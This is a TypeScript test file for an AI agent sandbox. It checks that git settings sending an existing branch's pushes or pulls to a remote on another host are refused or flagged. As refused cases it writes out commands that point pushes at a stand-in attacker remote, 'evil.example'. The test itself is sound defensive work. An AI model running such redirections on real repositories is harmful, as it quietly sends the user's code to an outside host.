/**
 * Where a branch's pushes and pulls go, written from the sandbox (docs/safety.md, "git's
 * settings"): a remote the agent added may point anywhere (`git remote add`), but sending an existing
 * branch's pushes or pulls to it — `branch.<b>.pushRemote`, `branch.<b>.remote`, `remote.pushDefault`,
 * an upstream on it — moves them to another host, as `git remote set-url` to another host would:
 * not recorded. The same host (a fork beside `origin`), or a branch that went nowhere before, is.
 * Real bubblewrap through `axme sandbox -c`, real git.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { repoFacts } from '../../src/setup/repo-facts.ts';
import { gitConfigGrant } from '../../src/setup/sandbox-git-config.ts';
import { cleanEnv, git, localGitSetting, sandboxCommand, sandboxProject } from '../helpers.ts';

const bwrapWorks = spawnSync('bwrap', ['--ro-bind', '/', '/', '--dev', '/dev', '--', '/bin/true']).status === 0;

describe("a branch's push destination written from the sandbox", { skip: !bwrapWorks && 'bubblewrap cannot start a sandbox here' }, () => {
  let project: string;
  let home: string;
  let cleanup: () => void;
  before(() => {
    ({ project, home, cleanup } = sandboxProject('push-dest-'));
    git(project, ['-c', 'user.name=t', '-c', 'user.email=t@t', 'commit', '-q', '--allow-empty', '-m', 'init']);
    git(project, ['branch', '-M', 'main']);
    git(project, ['branch', 'feat']);
    // the user's remote, its tracking; remote-tracking refs as a fetch would leave them (no network here)
    git(project, ['remote', 'add', 'origin', 'https://git.example.com/team/app.git']);
    git(project, ['config', 'branch.main.remote', 'origin']);
    git(project, ['config', 'branch.main.merge', 'refs/heads/main']);
    for (const ref of ['origin/main', 'origin/other', 'fork/main', 'evil/main', 'evil/x']) git(project, ['update-ref', `refs/remotes/${ref}`, 'HEAD']);
  });
  after(() => cleanup());

  const sandboxed = (command: string) => sandboxCommand(project, home)(command);
  const setting = (key: string) => localGitSetting(project, key);
  /** The repository's whole config, to compare before and after a refused command. */
  const config = () => spawnSync('git', ['config', '--local', '--list'], { cwd: project, encoding: 'utf8' }).stdout;
  const judge = (command: string) =>
    gitConfigGrant(command, { cwd: project, home, facts: repoFacts({ commonDir: join(project, '.git'), gitDir: join(project, '.git') }, cleanEnv()) });

  // in order: the agent's remotes first, each case after
  test("the agent's remotes: one on another host, one on the user's host (recorded: a new remote may point anywhere)", () => {
    for (const [command, key, url] of [
      ['git remote add evil https://evil.example/app.git', 'remote.evil.url', 'https://evil.example/app.git'],
      ['git remote add fork git@git.example.com:me/app.git', 'remote.fork.url', 'git@git.example.com:me/app.git'],
    ] as const) {
      const r = sandboxed(command);
      assert.equal(r.status, 0, r.out);
      assert.equal(setting(key), url, r.out);
    }
  });

  for (const command of [
    'git config branch.main.pushRemote evil',
    'git config branch.main.remote evil',
    'git config remote.pushDefault evil',
    'git branch -u evil/main main',
    'git branch --set-upstream-to=evil/main',
    'git branch --set-upstream-to evil/x main',
    'git config branch.feat.pushRemote evil',
  ])
    test(`refused: ${command} (the branch's pushes or pulls to another host)`, () => {
      const was = config();
      // the command itself runs in the sandbox: `git config` fails there, `git branch -u` says "set up to track" and records nothing
      const r = sandboxed(command);
      assert.equal(config(), was, `nothing of the repository's config changed:\n${r.out}`);
      assert.match(r.out, /axme: git's settings \(\.git\/config\) are read-only in axme's sandbox/, r.out);
    });

  test('git push -u evil main, git checkout -B main evil/main: the tracking of an existing branch on another host is not recorded, and the agent is told', () => {
    for (const command of ['git push -u evil main', 'git checkout -B main evil/main', 'git branch -f --track main evil/main']) {
      const grant = judge(command);
      assert.equal(grant?.kind, 'note', `${command}: ${JSON.stringify(grant)}`);
      assert.match(grant!.script, /another host/, command);
    }
  });

  test('recorded: the same host (a fork beside origin), a new branch from the remote it tracks, an unset that leaves the host as it was', () => {
    const recorded = (command: string, expected: Record<string, string | null>) => {
      const r = sandboxed(command);
      assert.equal(r.status, 0, `${command}:\n${r.out}`);
      for (const [key, value] of Object.entries(expected)) assert.equal(setting(key), value, `${command} → ${key}:\n${r.out}`);
    };
    recorded('git config branch.main.pushRemote fork', { 'branch.main.pushremote': 'fork' });
    recorded('git config --unset branch.main.pushRemote', { 'branch.main.pushremote': null });
    recorded('git branch -u fork/main feat', { 'branch.feat.remote': 'fork', 'branch.feat.merge': 'refs/heads/main' });
    recorded('git checkout -q -b ev --track evil/x', { 'branch.ev.remote': 'evil', 'branch.ev.merge': 'refs/heads/x' });
    recorded('git branch --track ev2 evil/main', { 'branch.ev2.remote': 'evil', 'branch.ev2.merge': 'refs/heads/main' });
    assert.equal(setting('branch.main.remote'), 'origin');
  });

  test('a branch moved over an existing one takes its settings: not recorded when they lead elsewhere (git branch -M)', () => {
    git(project, ['checkout', '-q', 'main']);
    const was = config();
    const r = sandboxed('git branch -M ev2 main');
    assert.equal(config(), was, r.out);
    assert.match(r.out, /another host/, r.out);
    assert.equal(setting('branch.main.remote'), 'origin', r.out);
  });
});
